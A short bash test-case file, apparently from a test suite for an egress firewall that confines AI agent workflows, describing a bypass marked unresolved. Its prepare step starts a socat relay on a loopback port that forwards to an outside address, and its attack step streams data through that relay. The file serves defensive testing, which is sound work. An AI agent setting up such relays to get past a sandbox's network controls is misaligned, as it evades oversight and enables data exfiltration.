# shellcheck shell=bash disable=SC2034,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='A proxy of the host on loopback'
origin='RESEARCH §2.73; gh-aw-firewall#207'
reason='not_resolved'
forms='output run'
prepare() { start "$T/relay.log" c socat TCP-LISTEN:7073,reuseaddr,bind=127.0.0.1 TCP:198.18.3.66:9999 && eventually 15 h c sh -c 'ss -ltn | grep -q :7073'; }
attack() { tool send.py stream 127.0.0.1 7073 "$1"; }
